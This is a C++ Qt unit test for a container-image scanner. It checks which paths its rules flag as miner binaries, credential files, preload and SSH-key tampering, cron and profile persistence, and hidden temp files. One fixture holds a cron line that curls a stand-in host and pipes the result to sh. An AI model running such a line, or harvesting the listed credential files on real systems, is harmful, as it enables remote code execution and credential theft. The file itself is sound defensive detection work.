// FileSystemChecks on an image layer, one path for each alternative of the path patterns tried
// on every file (they are only run on paths that hold one of their literals), and paths that
// look alike but must not match.

#include "checks/filesystemchecks.h"
#include "rules/ruleset.h"

#include <QTest>

#include <deque>

using namespace dockscope;
using namespace Qt::StringLiterals;

namespace {

struct TestLayer
{
    std::deque<LayerEntry> entries;
    std::deque<QByteArray> contents;
    FileSet set;

    void add(const std::string &path, std::uint32_t mode = 0644, const QByteArray &content = {})
    {
        LayerEntry &e = entries.emplace_back();
        e.path = path;
        e.mode = mode;
        e.size = content.size();
        FileView f;
        f.rel = path;
        f.path = u'/' + QString::fromStdString(path);
        f.entry = &e;
        f.layer = 0;
        if (!content.isEmpty()) {
            f.content = &contents.emplace_back(content);
        }
        set.files.push_back(std::move(f));
    }
};

// "RULE /path" for every finding.
QStringList found(const TestLayer &layer)
{
    const std::shared_ptr<const RuleSet> rules = RuleSet::load(RuleSet::Options{});
    FindingSink sink(rules->catalog());
    FileSystemChecks::run(layer.set, nullptr, *rules, sink);
    QStringList out;
    for (const Finding &f : sink.take()) {
        out << f.rule + u' ' + f.path;
    }
    out.sort();
    return out;
}

QStringList each(const char *rule, const QStringList &paths)
{
    QStringList out;
    for (const QString &p : paths) {
        out << QString::fromLatin1(rule) + u" /"_s + p;
    }
    return out;
}

} // namespace

class TestFileSystemChecks : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void minerNames()
    {
        const QStringList miners{u"opt/xmrig"_s, u"opt/xmrig-6.21"_s, u"opt/xmr-stak-rx"_s, u"usr/bin/minerd"_s,
                                 u"usr/bin/cpuminer-opt"_s, u"var/kdevtmpfsi"_s, u"var/kinsing"_s,
                                 u"bin/kthreaddi"_s, u"bin/kthreaddk"_s, u"bin/sysrv012"_s, u"opt/xmrigDaemon"_s,
                                 u"opt/xmrigMiner"_s, u"opt/nanominer"_s, u"opt/t-rex"_s, u"opt/lolminer"_s,
                                 u"opt/phoenixminer"_s, u"opt/nbminer"_s, u"usr/bin/version.dat"_s};
        TestLayer layer;
        for (const QString &p : miners) {
            layer.add(p.toStdString());
        }
        for (const char *p : {"opt/xmrig.d/readme", "usr/share/version.dat", "opt/miner", "bin/kthreadd", "opt/t-rex2"}) {
            layer.add(p);
        }
        QStringList expected = each("FS-02", miners);
        expected.sort();
        QCOMPARE(found(layer), expected);
    }

    void credentials()
    {
        const QStringList files{u"root/.aws/credentials"_s, u"home/u/.docker/config.json"_s, u".kube/config"_s,
                                u"root/.ssh/id_rsa"_s, u"home/u/.ssh/id_dsa"_s, u"id_ecdsa"_s, u"x/id_ed25519"_s,
                                u"root/.git-credentials"_s, u"root/.netrc"_s, u"var/lib/postgresql/.pgpass"_s};
        TestLayer layer;
        for (const QString &p : files) {
            layer.add(p.toStdString(), 0600);
        }
        for (const char *p : {"root/aws/credentials", "etc/docker/config.json", "root/.ssh/id_rsa.pub", "x/netrc"}) {
            layer.add(p, 0600);
        }
        QStringList expected = each("FS-12", files);
        expected.sort();
        QCOMPARE(found(layer), expected);
    }

    void preloadKeysAndPersistence()
    {
        const QByteArray flagged("* * * * * root curl -s http://x/a | sh\n");
        TestLayer layer;
        layer.add("etc/ld.so.preload", 0644, "/usr/lib/libx.so\n");
        layer.add("usr/etc/ld.so.preload");
        layer.add("root/.ssh/authorized_keys");
        layer.add("home/u/.ssh/authorized_keys2");
        layer.add("home/.ssh/authorized_keys"); // no user folder
        for (const char *p : {"etc/crontab", "etc/cron.d/job", "var/spool/cron/crontabs/root"}) {
            layer.add(p, 0644, flagged);
        }
        for (const char *p : {"etc/rc.local", "etc/profile", "etc/profile.d/x.sh", "root/.bashrc", "home/u/.profile"}) {
            layer.add(p, 0644, flagged);
        }
        layer.add("etc/cron.daily/job", 0644, flagged); // not a persistence path of the image checks
        layer.add("etc/crontab.bak", 0644, flagged);
        QCOMPARE(found(layer), (QStringList{
                                   u"FS-03 /etc/ld.so.preload"_s,
                                   u"FS-04 /etc/cron.d/job"_s,
                                   u"FS-04 /etc/crontab"_s,
                                   u"FS-04 /var/spool/cron/crontabs/root"_s,
                                   u"FS-05 /home/u/.ssh/authorized_keys2"_s,
                                   u"FS-05 /root/.ssh/authorized_keys"_s,
                                   u"FS-10 /etc/profile"_s,
                                   u"FS-10 /etc/profile.d/x.sh"_s,
                                   u"FS-10 /etc/rc.local"_s,
                                   u"FS-10 /home/u/.profile"_s,
                                   u"FS-10 /root/.bashrc"_s,
                               }));
    }

    void hiddenInTemporaryFolders()
    {
        TestLayer layer;
        for (const char *p : {"tmp/.x", "var/tmp/.y", "dev/shm/.z", "tmp/.X11-unix", "srv/tmp/.w", "usr/tmp/.v"}) {
            layer.add(p);
        }
        QCOMPARE(found(layer), (QStringList{u"FS-14 /dev/shm/.z"_s, u"FS-14 /tmp/.x"_s, u"FS-14 /var/tmp/.y"_s}));
    }
};

QTEST_GUILESS_MAIN(TestFileSystemChecks)
#include "tst_filesystemchecks.moc"
